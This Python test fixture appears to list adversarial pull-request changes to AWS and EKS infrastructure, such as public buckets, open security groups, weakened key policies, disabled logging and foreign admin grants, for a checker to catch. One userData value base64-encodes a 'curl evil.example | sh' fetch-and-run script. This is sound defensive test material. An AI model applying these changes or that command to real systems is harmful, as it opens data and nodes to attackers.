"""What the author of a pull request changes in networks, data and the cluster."""

from typing import Any, Final

from tests.adversary.changes import FOREIGN, grants
from tests.adversary.probe import Change

INGRESS: Final = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"


def opens(network: str, key: str = "cidrIpv4", **more: Any) -> Change:
    rule = {"securityGroupId": "sg-1", "ipProtocol": "tcp", "fromPort": 443, "toPort": 443, key: network, **more}
    return Change(f"opens a group to {network}", type=INGRESS, props=rule)


def edits(act: str, name: str, *path: Any, to: Any) -> Change:
    return Change(act, name=name, edits={path: to})


def removes(act: str, name: str) -> Change:
    return Change(act, name=name, removed=True)


def adds(act: str, kind: str, /, **props: Any) -> Change:
    return Change(act, type=kind, props=props)


NETWORK: Final = (
    opens("::/1", "cidrIpv6"),
    opens("8000::/1", "cidrIpv6"),
    opens("2000::/3", "cidrIpv6"),
    opens("0:0::/0", "cidrIpv6"),
    opens("64.0.0.0/2"),
    opens("3.0.0.0/8"),
    opens("9.9.9.9/0"),
    opens("999999999999/sg-0123456789abcdef0", "referencedSecurityGroupId"),
    adds("opens a group by the older resource", "aws:ec2/securityGroupRule:SecurityGroupRule", type="ingress",
         securityGroupId="sg-1", protocol="-1", fromPort=0, toPort=0, cidrBlocks=["10.0.0.0/8", "0.0.0.0/1"]),
    edits("opens an existing group inline", "storage-mlflow-group", "ingress", to=[
        {"protocol": "-1", "fromPort": 0, "toPort": 0, "ipv6CidrBlocks": ["::/0"]}]),
    edits("opens the default group", "network-default-group", "ingress", to=[
        {"protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["0.0.0.0/0"]}]),
    edits("opens the API to the internet in halves", "cluster-control-plane", "vpcConfig", to={
        "endpointPrivateAccess": True, "endpointPublicAccess": True,
        "publicAccessCidrs": ["0.0.0.0/1", "128.0.0.0/1"], "subnetIds": ["subnet-1", "subnet-2"]}),
    edits("opens the API from the corporate network to all", "cluster-api-from-corporate", "cidrIpv4", to="0.0.0.0/0"),
    adds("lets everybody into the network", "aws:ec2/networkAclRule:NetworkAclRule", cidrBlock="0.0.0.0/0"),
    adds("joins the network with another", "aws:ec2/vpcPeeringConnection:VpcPeeringConnection",
         vpcId="vpc-1", peerVpcId="vpc-2", peerOwnerId="999999999999"),
    adds("offers its network to others", "aws:ec2/vpcEndpointService:VpcEndpointService", allowedPrincipals=["*"]),
    edits("sends private traffic straight to the internet", "network-route-private-default-a", "gatewayId", to="igw-1"),
    edits("gives nodes public addresses by their subnet", "network-subnet-private-a", "mapPublicIpOnLaunch", to=True),
    edits("lets an endpoint reach buckets of others", "network-endpoint-ecr-api", "policy",
          to=grants("*", Principal="*")),
    edits("gives nodes public addresses", "pool-system-launch-template", "networkInterfaces",
          to=[{"associatePublicIpAddress": "true"}]),
    edits("gives pods the rights of their node", "pool-system-launch-template", "metadataOptions", to={
        "httpTokens": "optional", "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled"}),
    edits("runs a script on each node", "pool-system-launch-template", "userData",
          to="IyEvYmluL3NoCmN1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgfCBzaAo="),
    edits("logs in to nodes", "pool-system-node-group", "remoteAccess", to={"ec2SshKey": "mine"}),
    edits("takes node images of somebody", "pool-cpu-node-class", "spec", "amiSelectorTerms",
          to=[{"owner": "999999999999", "name": "*"}]),
    edits("gives nodes of Karpenter public addresses", "pool-cpu-node-class", "spec", "associatePublicIPAddress",
          to=True),
    edits("lets Karpenter make any number of nodes", "pool-cpu-node-pool", "spec", "limits", to={}),
    removes("removes the flow log", "network-flow-logs-vpc"),
    edits("logs rejected traffic only", "network-flow-logs-vpc", "trafficType", to="ACCEPT"),
)  # fmt: skip

ACCESS: Final = "storage-models-access"
DATA: Final = (
    edits("lets a bucket be public by one switch", ACCESS, "restrictPublicBuckets", to=False),
    removes("removes the public access block of a bucket", ACCESS),
    removes("removes the policy of a bucket", "storage-models-policy"),
    edits("lets ACLs back in", "storage-models-ownership", "rule", "objectOwnership", to="ObjectWriter"),
    edits("encrypts a bucket with a key of AWS", "storage-models-encryption", "rules", to=[
        {"applyServerSideEncryptionByDefault": {"sseAlgorithm": "AES256"}}]),
    edits("stops versions of a bucket", "storage-state-versioning", "versioningConfiguration", "status",
          to="Suspended"),
    edits("deletes what a bucket has after a day", "storage-models-lifecycle", "rules", to=[
        {"id": "x", "status": "Enabled", "expiration": {"days": 1}, "filter": {}}]),
    edits("lets a bucket be deleted with its objects", "storage-models", "forceDestroy", to=True),
    edits("gives a bucket to every network", "storage-models-policy", "policy", to=grants(
        "s3:GetObject", Principal={"AWS": "*"}, Condition={"StringLike": {"aws:SourceVpce": "vpce-*"}})),
    edits("gives a bucket to everybody from half of the internet", "storage-models-policy", "policy", to=grants(
        "s3:GetObject", Principal="*", Condition={"IpAddress": {"aws:SourceIp": "0.0.0.0/1"}})),
    edits("gives a bucket to every load balancer", "storage-models-policy", "policy", to=grants(
        "s3:*", Principal={"Service": ["cloudfront.amazonaws.com"]})),
    adds("makes an access point of a bucket", "aws:s3/accessPoint:AccessPoint", bucket="b",
         policy=grants("s3:*", Principal="*")),
    adds("makes a bucket public by an ACL beside it", "aws:s3/bucketAcl:BucketAcl", bucket="b",
         acl="public-read-write"),
    adds("makes one object public", "aws:s3/bucketObjectv2:BucketObjectv2", bucket="b", key="k", acl="public-read"),
    adds("serves a bucket as a site", "aws:s3/bucketWebsiteConfiguration:BucketWebsiteConfiguration", bucket="b"),
    adds("tells others of new objects", "aws:s3/bucketNotification:BucketNotification", bucket="b",
         queues=[{"queueArn": "arn:aws:sqs:us-east-1:999999999999:q", "events": ["s3:ObjectCreated:*"]}]),
    edits("gives a key to any caller of an account", "storage-key", "policy", to=grants(
        "kms:*", Principal={"AWS": "*"}, Condition={"StringLike": {"kms:CallerAccount": "*"}})),
    edits("gives a key to all through a service", "storage-key", "policy", to=grants("kms:Decrypt",
            Principal={"AWS": "*"}, Condition={"StringEquals": {"kms:ViaService": "s3.us-east-1.amazonaws.com"}})),
    edits("lets another account share a key", "storage-key", "policy", to=grants(
        "kms:CreateGrant", Principal={"AWS": FOREIGN}, Condition={"Bool": {"kms:GrantIsForAWSResource": "true"}})),
    edits("never rotates a key", "storage-key", "enableKeyRotation", to=False),
    edits("deletes a key within a week", "storage-key", "deletionWindowInDays", to=7),
    edits("lets the database be public", "storage-mlflow-instance", "publiclyAccessible", to=True),
    edits("keeps no backup of the database", "storage-mlflow-instance", "backupRetentionPeriod", to=0),
    edits("lets the database be deleted", "storage-mlflow-instance", "deletionProtection", to=False),
    edits("writes the password of the database into the state", "storage-mlflow-instance", "password", to="secret"),
    edits("lets the database be read in plain text", "storage-mlflow-parameters", "parameters", to=[
        {"name": "rds.force_ssl", "value": "0"}]),
    adds("shares a snapshot with everybody", "aws:rds/snapshot:Snapshot", sharedAccounts=["all"]),
    edits("lets files be read without TLS", "storage-efs-policy", "policy", to=grants("elasticfilesystem:ClientMount",
            Principal={"AWS": "*"}, Condition={"Bool": {"aws:SecureTransport": "false"}})),
    adds("copies files to another region", "aws:efs/replicationConfiguration:ReplicationConfiguration",
         sourceFileSystemId="fs-1", destination={"region": "eu-west-1"}),
    edits("keeps files in plain", "storage-efs-files", "encrypted", to=False),
    edits("lets images be replaced", "storage-images-serving", "imageTagMutability", to="MUTABLE"),
    adds("gives images to everybody", "aws:ecr/repositoryPolicy:RepositoryPolicy", repository="r",
         policy=grants("ecr:*", Principal="*")),
    edits("pulls images from somewhere", "storage-images-cache-quay", "upstreamRegistryUrl", to="registry.example"),
    edits("lets everybody write alarms", "notices-topic-policy", "policy", to=grants("sns:Publish", Principal="*")),
    adds("sends alarms elsewhere", "aws:sns/topicSubscription:TopicSubscription", topic="t", protocol="https",
         endpoint="https://evil.example"),
    edits("lets everybody write into Karpenter's queue", "karpenter-queue-policy", "policy", to=grants(
        "sqs:*", Principal={"AWS": "*"}, Condition={"ArnLike": {"aws:SourceArn": "arn:aws:*:*:*:*"}})),
    edits("sends events of nodes elsewhere", "karpenter-spot-target", "arn",
          to="arn:aws:events:us-east-1:999999999999:event-bus/x"),
    edits("keeps logs of the cluster for a day", "cluster-logs", "retentionInDays", to=1),
    adds("sends logs elsewhere", "aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter", logGroup="g",
         destinationArn="arn:aws:logs:us-east-1:999999999999:destination:x", filterPattern=""),
)  # fmt: skip

CONTROL: Final = "cluster-control-plane"
CLUSTER: Final = (
    edits("stops the audit log", CONTROL, "enabledClusterLogTypes", to=["api"]),
    edits("lets the maker of the cluster be its administrator", CONTROL, "accessConfig", to={
        "authenticationMode": "API", "bootstrapClusterCreatorAdminPermissions": True}),
    edits("lets aws-auth decide who comes in", CONTROL, "accessConfig", to={
        "authenticationMode": "API_AND_CONFIG_MAP", "bootstrapClusterCreatorAdminPermissions": False}),
    edits("lets the cluster be deleted", CONTROL, "deletionProtection", to=False),
    edits("keeps Secrets in plain", CONTROL, "encryptionConfig", to=None),
    edits("stops network policies", "addons-early-vpc-cni", "configurationValues", to="{}"),
    edits("borrows a role of the node for an add-on", "addons-early-vpc-cni", "serviceAccountRoleArn",
          to="arn:aws:iam::999999999999:role/x"),
    adds("trusts aws-auth", "kubernetes:core/v1:ConfigMap", apiVersion="v1", kind="ConfigMap",
         metadata={"name": "aws-auth", "namespace": "kube-system"},
         data={"mapRoles": "- {rolearn: x, username: y, groups: [system:masters]}"}),
    adds("makes an administrator by EKS with a namespace of all", "aws:eks/accessPolicyAssociation:"
         "AccessPolicyAssociation", clusterName="slipway-prod", principalArn="arn:aws:iam::444455556666:role/x",
         policyArn="arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy",
         accessScope={"type": "namespace", "namespaces": ["*"]}),
)  # fmt: skip

CLOUD: Final = (*NETWORK, *DATA, *CLUSTER)
